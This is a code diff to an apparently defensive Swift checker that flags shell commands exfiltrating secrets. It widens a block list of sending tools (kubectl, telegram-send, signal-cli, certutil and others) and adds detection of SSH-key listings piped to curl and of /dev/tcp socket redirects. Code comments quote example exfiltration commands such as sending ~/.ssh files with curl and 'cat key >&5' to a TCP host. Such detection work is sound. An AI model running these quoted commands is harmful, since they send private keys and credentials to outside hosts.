@@ -18,7 +18,7 @@ enum Exfiltration: Family {
     "ipfs", "magic-wormhole", "tailscale", "kdeconnect-cli", "slack", "notify", "ntfy", "websocat", "grpcurl",
     "mosquitto_pub", "kcat", "kafkacat", "kafka-console-producer", "lynx", "aria2c",
     "busybox", "doggo", "dog", "q", "certutil", "bitsadmin", "invoke-webrequest", "invoke-restmethod", "iwr",
-    "irm",
+    "irm", "kubectl", "oc", "telegram-send", "signal-cli",
   ]
   static let rules = [secrets, environment, archive, staged]
 
@@ -38,23 +38,60 @@ enum Exfiltration: Family {
     }
     for file in sending.files {
       let place = context.place(file.value, of: invocation)
-      if let found = leak(of: place, sending, context.surroundings)
-        ?? context.memory.held[place.path].flatMap({ leak($0, &context) })
+      if let found = leak(of: place, sending, context.surroundings) ?? held(in: place, &context)
+        ?? listed(by: file.value, sending, invocation, context)
       {
         return report(found, sending, invocation, file.range, &context)
       }
     }
   }
 
+  /// What this command put there: in the file, or in the folder.
+  private static func held(in place: Place, _ context: inout Judgement) -> Leak? {
+    guard !context.memory.held.isEmpty else { return nil }
+    if let origins = context.memory.held[place.path], let found = leak(origins, &context) { return found }
+    // Of the project itself it is known already what goes along.
+    if case .project = place.region { return nil }
+    let folder = place.path + "/"
+    for (path, origins) in context.memory.held.sorted(by: { $0.key < $1.key }).prefix(64)
+    where path.hasPrefix(folder) {
+      if let found = leak(origins, &context) { return found }
+    }
+    return nil
+  }
+
+  /// `ls ~/.ssh/* | xargs -I{} curl -F f=@{} …`: what a listing names.
+  private static func listed(
+    by value: Value, _ sending: Shipment, _ invocation: Invocation, _ context: Judgement
+  ) -> Leak? {
+    guard !value.isKnown else { return nil }
+    for path in Copies.listed(by: value) {
+      let place = context.place(path, of: invocation)
+      guard place.nature?.isSecret == true else { continue }
+      return (secrets, .critical, place.path)
+    }
+    return nil
+  }
+
   /// `cat key > /dev/tcp/host/port`: judged on every invocation.
   static func judgeWires(_ invocation: Invocation, _ context: inout Judgement) {
     for redirect in invocation.redirects
-    where redirect.kind == .write || redirect.kind == .append || redirect.kind == .readWrite {
+    where redirect.kind != .read && redirect.kind != .text {
       let target = redirect.target.prefix
-      guard target.hasPrefix("/dev/tcp/") || target.hasPrefix("/dev/udp/") else { continue }
-      let host =
-        target.utf8.dropFirst(9).split(separator: UInt8(ascii: "/")).first.map { String(Substring($0)) }
-        ?? "?"
+      var host = "?"
+      if target.hasPrefix("/dev/tcp/") || target.hasPrefix("/dev/udp/") {
+        host =
+          target.utf8.dropFirst(9).split(separator: UInt8(ascii: "/")).first.map { String(Substring($0)) }
+          ?? "?"
+      } else if redirect.kind == .duplicate, let peer = context.memory.socketPeer, target != "1",
+        target != "2",
+        target != "-"
+      {
+        // `exec 5>/dev/tcp/HOST/80; cat key >&5`
+        host = peer.utf8.split(separator: UInt8(ascii: ":")).first.map { String(Substring($0)) } ?? "?"
+      } else {
+        continue
+      }
       guard !NetworkHosts.isLoopback(host) else { continue }
       var sending = Shipment()
       sending.hosts = [host]
